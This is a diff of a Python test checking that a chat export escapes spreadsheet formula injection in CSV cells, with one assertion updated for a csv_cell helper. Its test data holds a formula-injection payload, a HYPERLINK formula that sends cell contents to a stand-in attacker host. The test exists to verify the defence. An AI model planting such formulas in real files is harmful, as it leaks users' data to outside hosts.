@@ -106,6 +106,8 @@ def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(busy
     """A message reading ``=HYPERLINK(…)`` (or starting + - @) exports to CSV with a leading
     ``'``, so an admin opening the file in a spreadsheet sees text, not a formula; the JSON
     export keeps the content as it is."""
+    from deepspace_lab.jobs.exports import csv_cell
+
     gw, (tenant, headers) = busy
     conv = httpx.post(gw.url + "/deepspace/api/conversations", headers=headers, json={"title": "@title"}).json()["id"]
     typed = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+1+2", "-3", "@SUM(A1:A9)", "plain = text"]
@@ -119,7 +121,7 @@ def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(busy
     mine = [r for r in rows if r["conversation_id"] == conv]
     assert [r["content"] for r in mine if r["role"] == "user"] == ["'" + c for c in typed[:4]] + [typed[4]]
     assert {r["title"] for r in mine} == {"'@title"}
-    assert all(int(r["tokens"]) >= 0 for r in mine if r["tokens"])  # numbers stay numbers
+    assert (csv_cell(-3), csv_cell(0.5), csv_cell("-3"), csv_cell("a=1")) == (-3, 0.5, "'-3", "a=1")  # numbers stay
 
     job = run_job(gw, headers, "/exports", {"dataset": "conversations", "format": "json"})
     entries = [e for e in json.loads(download(gw, headers, job["result"]["file_id"]).text)
